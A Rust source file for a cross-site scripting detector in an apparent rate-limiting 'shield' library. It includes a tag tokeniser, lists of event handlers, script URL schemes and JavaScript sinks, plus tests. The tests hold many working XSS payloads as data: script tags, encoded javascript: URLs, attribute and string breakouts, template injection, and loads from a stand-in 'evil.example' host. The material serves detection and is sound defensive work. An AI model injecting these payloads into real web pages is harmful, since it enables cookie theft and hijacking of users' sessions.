//! Cross-site scripting: an HTML tag tokeniser and the script sinks that
//! matter.
//!
//! Markup is read the way a browser reads a start tag: a name, then
//! attributes with quoted, unquoted or backtick values, `/` as a separator.
//! A tag is script when it is `<script`, carries an event handler
//! (`onerror=`, `onload=`…), `srcdoc`, a `javascript:`/`vbscript:`/
//! `data:text/html`/`data:image/svg+xml` URL in any attribute (after
//! character references, tabs and newlines are removed, as browsers do), or
//! CSS `expression(`; a `<style>` element with `expression(`, `@import` or
//! `javascript:` is too. Outside markup, a value that breaks out of an
//! attribute (`" onmouseover="alert(1)`), out of a JavaScript string
//! (`';alert(1)//`), or is itself a `javascript:` URL with code counts.
//!
//! Plain markup does not: `<b>bold</b>`, `<a href="https://…">terms</a>`,
//! `<img src="https://…" alt="…">`, `<iframe src="https://www.youtube…">`,
//! and text such as "5 < 6 > 4" or "I <3 biryani".

use std::borrow::Cow;

use super::{
    Detector, Finding, Inspection, Marks,
    decode::{contains_ci, html_entities},
};

/// Finds cross-site scripting in decoded query values, path segments and
/// body strings; see the [module docs](crate::shield). Reason `xss`,
/// default weight 5.
///
/// ```
/// use hasivu_ratelimit::shield::Xss;
///
/// assert!(Xss::is_xss("<script>alert(1)</script>"));
/// assert!(Xss::is_xss("<img src=x onerror=alert(1)>"));
/// assert!(Xss::is_xss("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"));
/// assert!(Xss::is_xss("\" onmouseover=\"alert(document.cookie)"));
/// assert!(!Xss::is_xss("<b>bold</b> and <a href=\"https://example.com/terms\">terms</a>"));
/// ```
#[derive(Clone, Debug)]
pub struct Xss {
    weight: u32,
}

impl Default for Xss {
    fn default() -> Self {
        Self { weight: 5 }
    }
}

impl Xss {
    /// The detector with the default weight (5).
    pub fn new() -> Self {
        Self::default()
    }

    /// The score of a finding.
    #[must_use]
    pub fn weight(mut self, weight: u32) -> Self {
        self.weight = weight;
        self
    }

    /// Whether `text` (already percent-decoded) would run script where it
    /// is reflected into HTML or stored as a link.
    pub fn is_xss(text: &str) -> bool {
        is_xss_marked(text, Marks::of(text))
    }
}

/// How many times character references are decoded after the text is
/// read as sent: once, as a browser does when the value lands in markup
/// (`&lt;script&gt;`, `&#x6a;avascript:`), and once more for a value
/// escaped twice on its way (`&amp;lt;script&amp;gt;`). Never until nothing
/// changes: each round of `&amp;amp;amp;…` peels one level, so that cost a
/// round and a copy per level.
const ENTITY_ROUNDS: usize = 2;

fn is_xss_marked(text: &str, marks: Marks) -> bool {
    if scan_marked(text, marks) {
        return true;
    }
    if !marks.any(Marks::AMP) {
        return false;
    }
    let Cow::Owned(mut decoded) = html_entities(text) else {
        return false;
    };
    for round in 1..=ENTITY_ROUNDS {
        let marks = Marks::of(&decoded);
        if scan_marked(&decoded, marks) {
            return true;
        }
        if round == ENTITY_ROUNDS || !marks.any(Marks::AMP) {
            break;
        }
        match html_entities(&decoded) {
            Cow::Owned(next) => decoded = next,
            Cow::Borrowed(_) => break,
        }
    }
    false
}

fn scan_marked(text: &str, marks: Marks) -> bool {
    scan(
        text,
        marks.any(Marks::LT),
        marks.any(Marks::EQ),
        marks.any(Marks::COLON),
        marks.any(Marks::QUOTE | Marks::DQUOTE | Marks::BACKTICK),
        marks.any(Marks::BRACE),
    )
}

impl Detector for Xss {
    fn inspect(&self, input: &Inspection<'_>) -> Option<Finding> {
        input
            .fields()
            .iter()
            .any(|f| is_xss_marked(&f.text, f.marks))
            .then_some(Finding::new("xss", self.weight))
    }
}

fn scan(text: &str, lt: bool, eq: bool, colon: bool, quote: bool, brace: bool) -> bool {
    (lt && markup(text))
        || (eq && attribute_breakout(text))
        || (colon && script_url_value(text))
        || (quote && js_breakout(text))
        || (brace && template(text))
}

/// Event handler attributes (`on` + event); the list is checked when no
/// real tag surrounds the attribute, so prose such as "set onload= in the
/// body" needs code after the `=` anyway.
const HANDLERS: &[&str] = &[
    "onabort",
    "onactivate",
    "onafterprint",
    "onanimationend",
    "onanimationiteration",
    "onanimationstart",
    "onauxclick",
    "onbeforecopy",
    "onbeforecut",
    "onbeforeinput",
    "onbeforepaste",
    "onbeforeprint",
    "onbeforeunload",
    "onbegin",
    "onblur",
    "oncanplay",
    "oncanplaythrough",
    "onchange",
    "onclick",
    "onclose",
    "oncontextmenu",
    "oncopy",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondragend",
    "ondragenter",
    "ondragleave",
    "ondragover",
    "ondragstart",
    "ondrop",
    "ondurationchange",
    "onend",
    "onended",
    "onerror",
    "onfinish",
    "onfocus",
    "onfocusin",
    "onfocusout",
    "onformdata",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onkeypress",
    "onkeyup",
    "onload",
    "onloadeddata",
    "onloadedmetadata",
    "onloadstart",
    "onmessage",
    "onmousedown",
    "onmouseenter",
    "onmouseleave",
    "onmousemove",
    "onmouseout",
    "onmouseover",
    "onmouseup",
    "onmousewheel",
    "onpageshow",
    "onpaste",
    "onpause",
    "onplay",
    "onplaying",
    "onpointerdown",
    "onpointerenter",
    "onpointerleave",
    "onpointermove",
    "onpointerout",
    "onpointerover",
    "onpointerup",
    "onpopstate",
    "onprogress",
    "onrepeat",
    "onreset",
    "onresize",
    "onscroll",
    "onscrollend",
    "onsearch",
    "onseeked",
    "onseeking",
    "onselect",
    "onselectionchange",
    "onselectstart",
    "onshow",
    "onstart",
    "onsubmit",
    "ontoggle",
    "ontouchend",
    "ontouchmove",
    "ontouchstart",
    "ontransitionend",
    "ontransitionrun",
    "ontransitionstart",
    "onunload",
    "onvolumechange",
    "onwheel",
];

fn is_handler(name: &str) -> bool {
    HANDLERS.iter().any(|h| h.eq_ignore_ascii_case(name))
}

/// Whether an attribute value looks like code rather than a word.
fn code_like(value: &str) -> bool {
    value
        .bytes()
        .any(|c| matches!(c, b'(' | b'`' | b'=' | b';' | b'[' | b'{'))
        || contains_ci(value.as_bytes(), b"javascript:")
        || contains_ci(value.as_bytes(), b"alert")
}

/// The value with HTML character references decoded, ASCII whitespace and
/// control characters removed (browsers drop tabs and newlines inside URL
/// schemes), lower-cased.
fn url_normalised(value: &str) -> String {
    html_entities(value)
        .chars()
        .filter(|c| !(c.is_ascii_whitespace() || c.is_ascii_control() || *c == '\u{a0}'))
        .flat_map(char::to_lowercase)
        .collect()
}

const SCRIPT_SCHEMES: &[&str] = &[
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:image/svg+xml",
    "data:application/xhtml",
    "data:text/xml",
];

/// CSS that runs script: IE's `expression(`, `behavior:`, Firefox's
/// `-moz-binding`, or a script URL. CSS comments and escapes are removed
/// first (`exp/**/ression(`, `e\xpression(`).
fn css_script(css: &str) -> bool {
    let normalised = url_normalised(css);
    let mut plain = String::with_capacity(normalised.len());
    let mut rest = normalised.as_str();
    while let Some(at) = rest.find("/*") {
        plain.push_str(&rest[..at]);
        rest = rest[at + 2..]
            .find("*/")
            .map_or("", |end| &rest[at + 2 + end + 2..]);
    }
    plain.push_str(rest);
    plain.retain(|c| c != '\\');
    plain.contains("expression(")
        || plain.contains("behavior:")
        || plain.contains("-moz-binding")
        || plain.contains("@import")
        || SCRIPT_SCHEMES.iter().any(|s| plain.contains(s))
}

/// Reads start tags and judges their attributes.
fn markup(text: &str) -> bool {
    let b = text.as_bytes();
    let mut i = 0;
    while let Some(p) = b[i..].iter().position(|&c| c == b'<') {
        let open = i + p;
        i = open + 1;
        let name_start = i;
        if !b.get(i).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'-' || b[i] == b':') {
            i += 1;
        }
        let name = &text[name_start..i];
        // `<scr<script>ipt>`: a tag inside a tag name is read on its own.
        if b.get(i) == Some(&b'<') {
            continue;
        }
        if name.eq_ignore_ascii_case("script") {
            return true;
        }
        let (mut end, dangerous) = attributes(text, i);
        if dangerous {
            return true;
        }
        if name.eq_ignore_ascii_case("base") && contains_ci(&b[name_start..end], b"href") {
            return true;
        }
        if name.eq_ignore_ascii_case("style") {
            // Each byte of a style body is read once.
            let body_end = find_ci(&b[end..], b"</style").map_or(b.len(), |p| end + p);
            if css_script(&text[end..body_end]) {
                return true;
            }
            end = body_end;
        }
        i = end.max(open + 1);
    }
    false
}

fn find_ci(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if hay.len() < needle.len() {
        return None;
    }
    (0..=hay.len() - needle.len()).find(|&i| hay[i..i + needle.len()].eq_ignore_ascii_case(needle))
}

/// Reads attributes from `i` to the end of the tag (`>` or the end of the
/// text); returns where it stopped and whether an attribute runs script.
fn attributes(text: &str, mut i: usize) -> (usize, bool) {
    let b = text.as_bytes();
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] == 0) {
            i += 1;
        }
        if i >= b.len() {
            return (i, false);
        }
        if b[i] == b'>' {
            return (i + 1, false);
        }
        // A `<` where an attribute should start begins the next tag, for
        // this reader (a browser would make it part of a name).
        if b[i] == b'<' {
            return (i, false);
        }
        let (next, name, value) = attribute(text, i);
        if attribute_runs_script(name, value, true) {
            return (next, true);
        }
        i = next;
    }
}

/// One attribute at `i`: where the next one starts, its name, its value.
/// A name may start with `=` or a quote; it ends at whitespace, `/`, `>`
/// or `=`. Values are quoted (`"`, `'`, or IE's backtick) or run to
/// whitespace or `>`.
fn attribute(text: &str, mut i: usize) -> (usize, &str, Option<&str>) {
    let b = text.as_bytes();
    let name_start = i;
    i += 1;
    while i < b.len()
        && !matches!(
            b[i],
            b' ' | b'\t' | b'\n' | b'\r' | 0x0c | b'/' | b'>' | b'='
        )
    {
        i += 1;
    }
    let name = &text[name_start..i];
    let mut j = i;
    while j < b.len() && b[j].is_ascii_whitespace() {
        j += 1;
    }
    if b.get(j) != Some(&b'=') {
        return (i, name, None);
    }
    j += 1;
    while j < b.len() && b[j].is_ascii_whitespace() {
        j += 1;
    }
    let (start, end, next) = match b.get(j) {
        Some(&q @ (b'"' | b'\'' | b'`')) => {
            let end = b[j + 1..]
                .iter()
                .position(|&c| c == q)
                .map_or(b.len(), |p| j + 1 + p);
            (j + 1, end, (end + 1).min(b.len()))
        }
        _ => {
            let end = b[j..]
                .iter()
                .position(|&c| c.is_ascii_whitespace() || c == b'>')
                .map_or(b.len(), |p| j + p);
            (j, end, end)
        }
    };
    (next, name, Some(&text[start..end]))
}

fn attribute_runs_script(name: &str, value: Option<&str>, in_tag: bool) -> bool {
    let lower = name.to_ascii_lowercase();
    if lower == "srcdoc" && in_tag {
        return true;
    }
    let Some(value) = value else {
        return false;
    };
    if lower.len() >= 5
        && lower.starts_with("on")
        && lower[2..].bytes().all(|c| c.is_ascii_alphabetic())
    {
        let known = is_handler(&lower);
        if (in_tag && (known || code_like(value))) || (known && code_like(value)) {
            return true;
        }
    }
    if lower == "style" && css_script(value) {
        return true;
    }
    if in_tag
        || matches!(
            lower.as_str(),
            "href" | "src" | "action" | "formaction" | "data"
        )
    {
        let url = url_normalised(value);
        if SCRIPT_SCHEMES.iter().any(|s| url.contains(s)) {
            return true;
        }
    }
    false
}

/// `" onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`,
/// `x onerror=alert(1)`: a value that ends an attribute and adds one.
fn attribute_breakout(text: &str) -> bool {
    let b = text.as_bytes();
    let mut from = 0;
    while let Some(p) = find_ci(&b[from..], b"on") {
        let at = from + p;
        from = at + 2;
        let boundary = at == 0
            || matches!(
                b[at - 1],
                b' ' | b'\t' | b'\n' | b'\r' | 0x0c | b'"' | b'\'' | b'`' | b'/' | b';'
            );
        // Only a handler's name is worth reading the value of.
        let name_len = b[at..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        if !boundary || name_len < 5 || !is_handler(&text[at..at + name_len]) {
            continue;
        }
        let (_, name, value) = attribute(text, at);
        if attribute_runs_script(name, value, false) {
            return true;
        }
    }
    // `" style="x:expression(alert(1))`
    (contains_ci(b, b":expression(") || contains_ci(b, b": expression(")) && css_script(text)
}

/// A value that is itself a script URL with code (`javascript:alert(1)`),
/// as stored for a link. "JavaScript: the good parts" has no code.
fn script_url_value(text: &str) -> bool {
    let b = text.as_bytes();
    if !(contains_ci(b, b"script")
        || contains_ci(b, b"data:")
        || b.iter().any(|&c| c == b'&' || c < 0x20))
    {
        return false;
    }
    let url = url_normalised(text);
    let url = url.trim_start_matches(['"', '\'', '`']);
    if url.starts_with("data:text/html") || url.starts_with("vbscript:") {
        return true;
    }
    url.strip_prefix("javascript:")
        .is_some_and(|rest| rest.starts_with("//") || code_like(rest))
}

/// Names a payload calls once it has left a JavaScript string.
const SINKS: &[&str] = &[
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "function",
    "fetch",
    "document",
    "window",
    "location",
    "top",
    "self",
    "parent",
    "frames",
    "globalthis",
    "this",
    "import",
    "atob",
    "constructor",
    "string",
    "console",
    "navigator",
    "xmlhttprequest",
];

/// `';alert(1)//`, `"-alert(1)-"`, `\';alert(String.fromCharCode(88))//`:
/// a quote, an operator, and a call of a script sink.
fn js_breakout(text: &str) -> bool {
    let b = text.as_bytes();
    for (q, _) in b
        .iter()
        .enumerate()
        .filter(|(_, c)| matches!(c, b'\'' | b'"' | b'`'))
    {
        let mut i = q + 1;
        let skip_ws = |mut i: usize| {
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            i
        };
        i = skip_ws(i);
        let op_start = i;
        while i < b.len()
            && matches!(
                b[i],
                b';' | b'-'
                    | b'+'
                    | b'*'
                    | b'/'
                    | b')'
                    | b'}'
                    | b','
                    | b'|'
                    | b'&'
                    | b'^'
                    | b'%'
                    | b'~'
                    | b'!'
                    | b'<'
                    | b'>'
                    | b'='
                    | b'?'
                    | b':'
            )
        {
            i += 1;
        }
        if i == op_start || i - op_start > 4 {
            continue;
        }
        i = skip_ws(i);
        let word_start = i;
        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'$') {
            i += 1;
        }
        let word = &text[word_start..i];
        if !SINKS.iter().any(|s| s.eq_ignore_ascii_case(word)) {
            continue;
        }
        match b.get(i) {
            Some(b'(' | b'`' | b'[') => return true,
            Some(b'.') if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => return true,
            _ => {}
        }
    }
    false
}

/// Client-side template injection: `{{constructor.constructor('alert(1)')()}}`.
fn template(text: &str) -> bool {
    let b = text.as_bytes();
    find_ci(b, b"{{").is_some_and(|at| {
        let rest = &b[at..];
        contains_ci(rest, b"constructor")
            || contains_ci(rest, b"$eval")
            || contains_ci(rest, b"alert(")
            || contains_ci(rest, b"$on.")
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn xss(s: &str) -> bool {
        Xss::is_xss(s)
    }

    #[test]
    fn script_in_markup() {
        for payload in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></ScRiPt>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "\"><script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<img/src=\"x\"/onerror=\"alert(1)\">",
            "<body onload=alert('x')>",
            "<details open ontoggle=alert(1)>",
            "<x onclick=alert(1)>click",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=javascript&colon;alert(1)>x</a>",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<div style=\"width: expression(alert(1))\">",
            "<style>@import 'http://evil.example/x.css';</style>",
            "<form><button formaction=javascript:alert(1)>x",
            "<object data=\"javascript:alert(1)\">",
            "<base href=\"//evil.example/\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ] {
            assert!(xss(payload), "{payload}");
        }
    }

    #[test]
    fn breakouts_and_urls() {
        for payload in [
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "x onerror=alert(1)",
            "javascript:alert(document.domain)",
            "  JaVaScRiPt:alert(1)",
            "java\tscript://%0aalert(1)",
            "';alert(String.fromCharCode(88,83,83))//",
            "\"-alert(1)-\"",
            "\\';alert(1);//",
            "{{constructor.constructor('alert(1)')()}}",
            "\" style=\"x:expression(alert(1))",
        ] {
            assert!(xss(payload), "{payload}");
        }
    }

    #[test]
    fn plain_markup_and_text_are_not_script() {
        for text in [
            "<b>bold</b>",
            "<a href=\"https://example.com/terms\">terms</a>",
            "I agree to the <a href=\"https://example.com/privacy\" target=\"_blank\">privacy policy</a>.",
            "<img src=\"https://cdn.example.com/a.png\" alt=\"A\">",
            "<iframe src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>",
            "<p style=\"color: red\">Hi</p>",
            "5 < 6 > 4",
            "I <3 biryani",
            "a<b and c>d",
            "JavaScript: the good parts",
            "Set onload= in the body tag",
            "Online = yes",
            "the 'onion' = vegetable",
            "It's a \"top\" pick",
            "Mustache {{name}} templates",
            "data:image/png;base64,iVBORw0KGgo=",
            "Contact <jane@example.com>",
            "<a online=\"yes\">x</a>",
        ] {
            assert!(!xss(text), "{text}");
        }
    }

    #[test]
    fn nested_entities_are_decoded_a_bounded_number_of_times() {
        // `&amp;amp;amp;…`: each round of decoding peels one `amp;`, so
        // decoding until nothing changes took one round (and one stack
        // frame) per repetition.
        for repetitions in [8_000, 100_000] {
            let nested = format!("&{}lt;script&gt;", "amp;".repeat(repetitions));
            assert!(!xss(&nested), "{repetitions} levels deep is not script");
        }
        // Two levels, as a value escaped twice for HTML, are still seen.
        assert!(xss("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"));
        assert!(xss("<a href=\"&amp;#106;avascript:alert(1)\">x</a>"));
    }

    proptest! {
        #[test]
        fn never_panics(s in "\\PC{0,80}") {
            let _ = xss(&s);
        }

        #[test]
        fn markup_soup_never_panics(s in "[<>/=\"'` a-z&#;:(){}]{0,60}") {
            let _ = xss(&s);
        }

        #[test]
        fn text_without_markup_characters_is_never_script(s in "[a-zA-Z0-9 .,!?-]{0,80}") {
            prop_assert!(!xss(&s));
        }
    }
}
